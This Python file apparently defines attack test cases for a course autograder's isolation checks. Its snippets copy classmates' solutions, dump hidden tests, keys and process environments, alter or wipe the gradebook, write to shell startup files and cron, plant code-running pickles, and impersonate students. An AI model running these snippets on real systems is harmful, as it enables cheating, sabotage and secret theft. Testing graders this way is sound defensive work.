"""Other people: their files, their marks, the instructor's files, keys and gradebook."""

from course_lib.grading.attacks.model import cell, table

ATTACKS = table(
    "people",
    cell(
        "copies-the-victim",
        "reads a classmate's notebook and runs its solutions",
        """
import json
from pathlib import Path
nb = json.loads(Path("@root@/submitted/@victim@/optimizers/optimizers.ipynb").read_text())
for cell in nb["cells"]:
    if cell["cell_type"] == "code" and "@implement" in "".join(cell["source"]):
        exec("".join(cell["source"]))
""",
        at="setup",
    ),
    cell(
        "copies-a-neighbour",
        "looks for other notebooks around its own folder, and runs what it finds",
        """
import glob, json
for up in ("..", "../..", "../../..", "../../../.."):
    for path in glob.glob(f"{up}/**/*.ipynb", recursive=True)[:20]:
        for cell in json.load(open(path))["cells"]:
            if "@implement" in "".join(cell["source"]):
                exec("".join(cell["source"]))
""",
        at="setup",
    ),
    cell(
        "runs-the-source",
        "reads the instructor's notebook and runs its solutions",
        """
import json
for folder in ("@root@", "@repository@/assignments"):
    try:
        nb = json.load(open(f"{folder}/source/optimizers/optimizers.ipynb"))
    except OSError as error:
        print(error)
        continue
    for cell in nb["cells"]:
        if "@implement" in "".join(cell["source"]):
            exec("".join(cell["source"]))
""",
        at="setup",
    ),
    cell(
        "prints-the-source",
        "prints the instructor's notebook, hidden tests and all",
        """
for folder in ("@root@", "@repository@/assignments"):
    for path in ("source", "autograded/@victim@", "release"):
        try:
            print(open(f"{folder}/{path}/optimizers/optimizers.ipynb").read())
        except OSError as error:
            print(error)
""",
    ),
    cell(
        "prints-the-gradebook",
        "prints the hidden tests out of the gradebook",
        """
import sqlite3
for name in ("@root@/gradebook.db", "@repository@/assignments/gradebook.db"):
    try:
        book = sqlite3.connect(f"file:{name}?mode=ro", uri=True)
        print(book.execute("select source from source_cell").fetchall())
        print(book.execute("select id, first_name from student").fetchall())
    except sqlite3.Error as error:
        print(error)
""",
    ),
    cell(
        "extra-credit",
        "gives itself extra credit in the gradebook",
        """
import sqlite3
try:
    book = sqlite3.connect("@root@/gradebook.db", timeout=2)
    book.execute("update grade set extra_credit = 100, manual_score = 90")
    book.commit()
except sqlite3.Error as error:
    print(error)
""",
        solved=True,
    ),
    cell(
        "takes-marks-away",
        "sets a classmate's marks to nothing",
        """
import sqlite3
try:
    book = sqlite3.connect("@root@/gradebook.db", timeout=2)
    book.execute("update grade set auto_score = 0, manual_score = 0")
    book.commit()
except sqlite3.Error as error:
    print(error)
""",
        solved=True,
    ),
    cell(
        "marks-later",
        "leaves a process that edits the gradebook when grading is over",
        """
import os, sqlite3, time
if os.fork() == 0:
    os.setsid()
    end = time.monotonic() + 20
    while time.monotonic() < end:
        try:
            with sqlite3.connect("@root@/gradebook.db", timeout=1) as book:
                book.execute("update grade set extra_credit = 7")
        except sqlite3.Error:
            pass
        time.sleep(1)
    os._exit(0)
""",
        solved=True,
    ),
    cell(
        "locks-the-gradebook",
        "holds a lock on the gradebook for as long as it may",
        """
import sqlite3, time
try:
    book = sqlite3.connect("@root@/gradebook.db", timeout=1)
    book.execute("begin exclusive")
    time.sleep(2)
except sqlite3.Error as error:
    print(error)
""",
        solved=True,
    ),
    cell(
        "empties-the-gradebook",
        "writes over the gradebook",
        """
try:
    open("@root@/gradebook.db", "r+b").truncate(0)
except OSError as error:
    print(error)
""",
        solved=True,
    ),
    cell(
        "edits-the-victim",
        "writes into a classmate's submission",
        """
try:
    open("@root@/submitted/@victim@/optimizers/optimizers.ipynb", "w").write("{}")
    open("@mark@", "w").write("here")
except OSError as error:
    print(error)
""",
        solved=True,
    ),
    cell(
        "edits-records",
        "writes records, stamps and feedback for itself and for a classmate",
        """
import os
for name in ("records/@name@/optimizers.json", "records/@victim@/optimizers.json",
             "feedback/@victim@/optimizers/optimizers.html",
             "autograded/@name@/optimizers/optimizers.ipynb", "../_build/graded/optimizers/x"):
    try:
        os.makedirs(os.path.dirname(f"@root@/{name}"), exist_ok=True)
        open(f"@root@/{name}", "w").write("{}")
        open("@mark@", "w").write(name)
    except OSError as error:
        print(error)
""",
        solved=True,
    ),
    cell(
        "prints-the-key",
        "prints the course's secret",
        """
for name in ("@root@/secret.key", "@repository@/assignments/secret.key"):
    try:
        raw = open(name, "rb").read()
        print(raw, raw.hex())
    except OSError as error:
        print(error)
""",
    ),
    cell(
        "prints-records",
        "prints records, where seeds and findings stand",
        """
import glob
for path in glob.glob("@root@/records/*/*.json") + glob.glob("@root@/feedback/*/*/*.html"):
    print(open(path).read()[:5000])
""",
    ),
    cell(
        "lists-the-class",
        "lists who else is in the class",
        """
import os
for folder in ("@root@/submitted", "..", "../..", "/tmp", "/proc"):
    try:
        print([name for name in os.listdir(folder) if not name.isdigit()])
    except OSError as error:
        print(error)
""",
        solved=True,
    ),
    cell(
        "edits-the-library",
        "writes into the student edition from which all others run",
        """
import course_lib, torch, os
for module in (course_lib, torch):
    try:
        with open(os.path.join(os.path.dirname(module.__file__), "course-attack.py"), "w") as file:
            file.write("raise SystemExit")
        open("@mark@", "w").write("library")
    except OSError as error:
        print(error)
""",
        solved=True,
    ),
    cell(
        "edits-settings",
        "writes settings, start-up files and crontabs of whoever grades",
        """
import os
for name in ("@root@/nbgrader_config.py", "~/.bashrc", "~/.ipython/profile_default/startup/x.py",
             "~/.jupyter/nbgrader_config.py", "@repository@/course-attack",
             "/etc/cron.d/course-attack", "/var/tmp/course-attack"):
    if os.path.expanduser("~").startswith(("/home", "/root")):
        continue
    try:
        open(os.path.expanduser(name), "a").write("\\n# course-attack\\n")
        if name[0] != "~":
            open("@mark@", "w").write(name)
    except OSError as error:
        print(error)
""",
        solved=True,
    ),
    cell(
        "prints-environment",
        "prints the environment and the commands of all processes it can see",
        """
import os, glob
print(dict(os.environ))
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        print(open(path, "rb").read())
    except OSError as error:
        print(error)
""",
        solved=True,
    ),
    cell(
        "poisons-pickles",
        "leaves pickles and weights that run code when somebody opens them",
        """
import pickle, torch
class Bad:
    def __reduce__(self):
        return (open, ("@mark@", "w"))
pickle.dump(Bad(), open("model.pkl", "wb"))
torch.save({"a": Bad()}, "weights.pt")
import numpy
numpy.save("data.npy", numpy.array([Bad()], dtype=object), allow_pickle=True)
""",
        solved=True,
    ),
    cell(
        "names-itself-another",
        "says it is a classmate, to get the classmate's data and marks",
        """
STUDENT = "@victim@"
import os
os.environ["NBGRADER_STUDENT"] = os.environ["USER"] = STUDENT
""",
        solved=True,
    ),
)
